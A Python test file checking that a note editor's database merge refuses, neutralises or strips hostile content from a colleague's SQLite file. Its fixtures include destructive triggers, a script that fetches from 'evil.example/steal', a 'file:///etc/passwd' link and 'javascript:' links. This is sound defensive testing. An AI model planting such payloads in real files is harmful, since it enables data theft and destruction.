"""A colleague's file is untrusted: hostile or broken databases are refused or cleaned, never obeyed."""

from __future__ import annotations

import sqlite3
import tracemalloc
from pathlib import Path

import pytest

from editor.core.errors import StoreError
from editor.store import Store, schema_version
from editor.store.merge import merge_database
from editor.store.sharing import share_copy
from tests.test_merge_support import analyst_db, annotations, clock, sample_report  # noqa: F401


@pytest.fixture
def ours(tmp_path, clock):
    alice = analyst_db(tmp_path / "alice.sqlite", "Alice")
    alice.store.save_note(alice.node("1.1"), alice.author.id, "<p>我的筆記</p>")
    alice.store.add_node_tag(alice.node("1.2"), "Risk", alice.author.id)
    yield alice
    alice.store.close()


@pytest.fixture
def theirs(tmp_path, clock):
    """Bob's database file with a few annotations, closed, ready to be tampered with."""
    bob = analyst_db(tmp_path / "bob-live.sqlite", "Bob")
    bob.store.save_note(bob.node("1.2"), bob.author.id, "<p>Bob 的筆記</p>")
    bob.store.set_rating(bob.node("1.2"), bob.store.dimension("impact").id, bob.author.id, 3)
    path = share_copy(bob.store, tmp_path / "bob.sqlite")
    bob.store.close()
    return path, bob


def files_of(store: Store) -> dict[str, bytes]:
    """The bytes of the database and its write-ahead log, and the names of any files beside it.

    The ``-shm`` index's content is left out: it is shared memory that every reader
    updates, not database content.
    """
    base = store.path
    files = {p.name: b"" for p in base.parent.iterdir() if p.name.startswith(base.name)}
    files.update({p.name: p.read_bytes() for p in (base, base.with_name(base.name + "-wal")) if p.exists()})
    return files


def tamper(path: Path, *statements: str, params: tuple = ()) -> None:
    conn = sqlite3.connect(path, isolation_level=None)
    for statement in statements:
        conn.execute(statement, params if "?" in statement else ())
    conn.close()


def assert_refused(alice, path: Path, message: str) -> StoreError:
    content = annotations(alice.store)
    before = files_of(alice.store)
    with pytest.raises(StoreError, match=message) as caught:
        merge_database(alice.store, path)
    assert "\n" not in str(caught.value)
    assert files_of(alice.store) == before  # byte for byte, no backup made
    assert annotations(alice.store) == content
    return caught.value


# -- refused files -----------------------------------------------------------------------------


def test_a_file_that_is_not_sqlite_is_refused(ours, tmp_path):
    text = tmp_path / "notes.sqlite"
    text.write_text("這不是資料庫\n" * 100, encoding="utf-8")
    assert_refused(ours, text, r"cannot merge .*notes.sqlite: it is not a Trendmark database \(it is not an SQLite file\)")


def test_an_empty_file_a_folder_and_a_missing_file_are_refused(ours, tmp_path):
    (tmp_path / "empty.sqlite").write_bytes(b"")
    assert_refused(ours, tmp_path / "empty.sqlite", "not an SQLite file")
    (tmp_path / "folder.sqlite").mkdir()
    assert_refused(ours, tmp_path / "folder.sqlite", "it is a directory")
    assert_refused(ours, tmp_path / "missing.sqlite", "no such file")


def test_a_foreign_sqlite_database_is_refused(ours, tmp_path):
    foreign = tmp_path / "other-app.sqlite"
    tamper(foreign, "CREATE TABLE notes (id TEXT, html TEXT)", "INSERT INTO notes VALUES ('x', '<p>hi</p>')")
    assert_refused(ours, foreign, "it is not a Trendmark database$")


def test_a_database_from_a_newer_trendmark_is_refused_clearly(ours, theirs):
    path, _bob = theirs
    newer = schema_version() + 1
    tamper(path, f"PRAGMA user_version = {newer}")
    error = assert_refused(ours, path, "newer Trendmark")
    assert str(error) == f"{path} was written by a newer Trendmark (schema {newer}); update Trendmark to merge it"


def test_a_view_standing_in_for_one_of_our_tables_is_refused(ours, theirs):
    path, _bob = theirs
    tamper(path, "DROP TABLE notes",
           "CREATE VIEW notes AS SELECT 'a1b2c3d4-0000-4000-8000-000000000000' AS id, n.id AS node_id,"
           " a.id AS author_id, '<script>alert(1)</script>' AS html, '' AS text, '2020-01-01T00:00:00.000Z'"
           " AS created_at, '2020-01-01T00:00:00.000Z' AS updated_at, NULL AS deleted_at"
           " FROM nodes n, authors a")
    assert_refused(ours, path, r"notes is a view, not a table")


def test_a_computed_column_is_refused(ours, theirs):
    path, _bob = theirs
    tamper(path, "PRAGMA foreign_keys = OFF", "ALTER TABLE authors RENAME TO authors_real",
           "CREATE TABLE authors (id TEXT PRIMARY KEY, created_at TEXT, updated_at TEXT, public_key TEXT,"
           " name TEXT GENERATED ALWAYS AS (upper(id)) VIRTUAL)",
           "INSERT INTO authors (id, created_at, updated_at) SELECT id, created_at, updated_at FROM authors_real")
    assert_refused(ours, path, r"column authors.name is computed")


def test_a_missing_column_is_refused(ours, theirs):
    path, _bob = theirs
    tamper(path, "DROP INDEX ratings_live", "DROP TRIGGER ratings_revision_update", "ALTER TABLE ratings DROP COLUMN value")
    assert_refused(ours, path, r"column ratings.value is missing")


def test_the_database_itself_is_refused(ours):
    assert_refused(ours, ours.store.path, "it is this database itself")


# -- obeyed never, cleaned always ----------------------------------------------------------------


def test_triggers_in_their_file_never_run_and_nothing_of_their_schema_is_copied(ours, theirs):
    path, _bob = theirs
    tamper(path,
           "CREATE TRIGGER evil_notes AFTER INSERT ON notes BEGIN DELETE FROM authors; END",
           "CREATE TRIGGER evil_update AFTER UPDATE ON ratings BEGIN DELETE FROM notes; END",
           "CREATE VIEW evil_view AS SELECT * FROM authors",
           "CREATE TABLE evil_table (x)")
    before = path.read_bytes()
    result = merge_database(ours.store, path)
    assert result.counts["notes"].added == 1 and result.counts["ratings"].added == 1
    assert path.read_bytes() == before  # their file was only read
    names = {row[0] for row in ours.store.db.execute("SELECT name FROM sqlite_master")}
    assert not any(name.startswith("evil") for name in names)
    assert {a.name for a in ours.store.authors()} == {"Alice", "Bob"}
    assert ours.store.note(ours.node("1.1"), ours.author.id).text == "我的筆記"


def test_scripts_remote_images_and_file_links_are_removed(ours, theirs):
    path, bob = theirs
    hostile = ('<p>看這裡<script>fetch("http://evil.example/steal")</script>'
               '<img src="http://evil.example/track.png">'
               '<a href="file:///etc/passwd">本地檔案</a> <a href="javascript:alert(1)">點我</a>'
               '<a href="https://example.com/report">來源</a></p>')
    tamper(path, "UPDATE notes SET html = ?", params=(hostile,))
    tamper(path, "UPDATE highlights SET comment_html = ?", params=(hostile,))
    result = merge_database(ours.store, path)
    note = ours.store.note(ours.node("1.2"), bob.author.id)
    for bad in ("<script", "<img", "file:", "javascript:", "evil.example"):
        assert bad not in note.html
    assert 'href="https://example.com/report"' in note.html
    assert note.text == "看這裡本地檔案 點我來源"
    assert result.sanitised == 1
    assert "unsafe markup removed from 1 rich text(s)" in result.summary_lines()


def test_a_huge_note_is_refused_with_a_warning_and_the_rest_merges(ours, theirs):
    path, bob = theirs
    tamper(path, "UPDATE notes SET html = ?", params=("<p>" + "長" * 1_200_000 + "</p>",))
    result = merge_database(ours.store, path)
    assert ours.store.note(ours.node("1.2"), bob.author.id) is None
    assert result.counts["notes"].skipped == 1
    assert result.counts["ratings"].added == 1
    assert any("1,200,007 characters long; the limit is 1,000,000" in w for w in result.warnings)
    assert any(line.startswith("skipped notes: note on 1.2 is 1,200,007") for line in result.summary_lines())


def test_invalid_values_skip_their_rows_only(ours, theirs):
    path, bob = theirs
    impact = "ratings"
    conn = sqlite3.connect(path, isolation_level=None)
    node = conn.execute("SELECT id FROM nodes WHERE path = '1.1.1'").fetchone()[0]
    body = conn.execute("SELECT body FROM nodes WHERE path = '1.1.1'").fetchone()[0]
    stamp = "2020-05-01T00:00:00.000Z"
    dims = dict(conn.execute("SELECT lower(name), id FROM dimensions"))
    conn.execute("PRAGMA foreign_keys = OFF")
    rows = [
        (node, dims["likelihood"], bob.author.id, 9),  # outside 1..5
        (node, dims["confidence"], bob.author.id, 2),  # fine
        (node, "not-an-id", bob.author.id, 2),  # unknown dimension
    ]
    for row in rows:
        conn.execute(f"INSERT INTO {impact} (node_id, dimension_id, author_id, value, created_at, updated_at)"
                     " VALUES (?, ?, ?, ?, ?, ?)", (*row, stamp, stamp))
    highlight = ("INSERT INTO highlights (id, node_id, author_id, start, \"end\", exact, color, created_at,"
                 " updated_at) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)")
    conn.execute(highlight, ("11111111-1111-4111-8111-111111111111", node, bob.author.id, 0, len(body) + 5,
                             body, "#FFE066", stamp, stamp))  # beyond the text
    conn.execute(highlight, ("22222222-2222-4222-8222-222222222222", node, bob.author.id, 0, 2, body[:2],
                             "red", stamp, stamp))  # not a colour
    conn.execute(highlight, ("33333333-3333-4333-8333-333333333333", node, bob.author.id, 0, 2, "假的",
                             "#FFE066", stamp, stamp))  # does not match the text
    conn.execute(highlight, ("44444444-4444-4444-8444-444444444444", node, bob.author.id, 0, 2, body[:2],
                             "#FFE066", stamp, "2999-01-01T00:00:00.000Z"))  # from the future
    conn.execute(highlight, ("55555555-5555-4555-8555-555555555555", node, "99999999-9999-4999-8999-999999999999",
                             0, 2, body[:2], "#FFE066", stamp, stamp))  # unknown analyst
    conn.execute(highlight, ("66666666-6666-4666-8666-666666666666", node, bob.author.id, 1, 3, body[1:3],
                             "#ffe066", stamp, stamp))  # fine
    conn.execute("UPDATE notes SET created_at = 'yesterday'")  # Bob's only note
    conn.close()
    result = merge_database(ours.store, path)
    assert result.counts["ratings"].added == 2 and result.counts["ratings"].skipped == 2
    assert result.counts["highlights"].added == 1 and result.counts["highlights"].skipped == 4
    assert result.counts["highlights"].refused == 1  # dated in the future: refused and listed, not skipped
    assert any("lies in the future" in line for line in result.refusals.listed)
    assert result.counts["notes"].skipped == 1 and ours.store.note(ours.node("1.2"), bob.author.id) is None
    assert [h.id for h in ours.store.highlights(ours.node("1.1.1"))] == ["66666666-6666-4666-8666-666666666666"]
    assert ours.store.highlight("66666666-6666-4666-8666-666666666666").color == "#FFE066"
    text = " | ".join(result.warnings)
    for expected in ("rating 9 is outside 1..5", "unknown dimension", "highlight end", "not a colour",
                     "does not match the text", "unknown analyst",
                     "created_at is not a timestamp ('yesterday')"):
        assert expected in text


def test_a_report_whose_text_does_not_match_its_id_is_not_imported(ours, tmp_path, clock):
    from editor.core.report import ParsedNode, ParsedReport
    bob = analyst_db(tmp_path / "bob2-live.sqlite", "Bob")
    info, _ = bob.store.add_report(ParsedReport("另一份報告", [ParsedNode("一", "1", 1, "標題", "原本的正文。")]))
    node = bob.store.find_node(info.id, "1")
    bob.store.save_note(node.id, bob.author.id, "<p>附註</p>")
    path = share_copy(bob.store, tmp_path / "bob2.sqlite")
    bob.store.close()
    tamper(path, "UPDATE nodes SET body = '被竄改的正文。' WHERE report_id = ?", params=(info.id,))
    result = merge_database(ours.store, path)
    assert [r.title for r in ours.store.reports()] == [ours.report.title]
    assert result.counts["reports"].skipped == 1 and result.counts["notes"].skipped == 1
    assert any("does not match its id" in w for w in result.warnings)


def test_a_report_with_a_repeated_path_is_not_imported(ours, theirs):
    # No unique index keeps a file's paths apart; a script can write such a report, ids and all.
    from editor.core.report import ParsedNode, ParsedReport, node_id, report_id
    path, _bob = theirs
    report = ParsedReport("重複路徑的報告", [ParsedNode("一", "1", 1, "甲", "第一段。"),
                                              ParsedNode("二", "1", 1, "乙", "第二段。")])
    rid = report_id(report)
    tamper(path, "INSERT INTO reports (id, title, imported_at) VALUES (?, '重複路徑的報告', '2020-05-01T00:00:00.000Z')",
           params=(rid,))
    for seq, node in enumerate(report.nodes):
        tamper(path, "INSERT INTO nodes (id, report_id, position, level, number, path, title, body, seq)"
                     " VALUES (?, ?, ?, 1, ?, '1', ?, ?, ?)",
               params=(node_id(rid, "1", node.title), rid, seq, node.number, node.title, node.body, seq))
    result = merge_database(ours.store, path)
    assert [r.title for r in ours.store.reports()] == [ours.report.title]
    assert result.counts["reports"].skipped == 1
    assert any("重複路徑的報告" in w and "(1)" in w for w in result.warnings)


def test_a_file_padded_with_junk_rows_is_read_in_bounded_memory(ours, theirs):
    path, bob = theirs
    rows = 200_000
    tamper(path, "PRAGMA foreign_keys = OFF",
           "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?)"
           " INSERT INTO highlights (id, node_id, author_id, start, \"end\", exact, prefix, suffix, color,"
           " comment_html, comment_text, created_at, updated_at)"
           " SELECT printf('junk-%d', i), 'no-such-node', ?, 0, 1, 'x', '', '', '#FFE066',"
           " printf('<p>%s</p>', hex(randomblob(100))), '', '2026-01-01T00:00:00.000Z', '2026-01-01T00:00:00.000Z'"
           " FROM n", params=(rows, bob.author.id))
    tracemalloc.start()
    try:
        result = merge_database(ours.store, path)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert result.counts["highlights"].skipped == rows
    assert result.counts["notes"].added == 1  # the honest rows around the junk still merge
    # Holding the junk (200,000 rows of some 400 bytes each) would take far more than this.
    assert peak < 40 * 1024 * 1024, f"peak {peak / 1e6:.0f} MB"
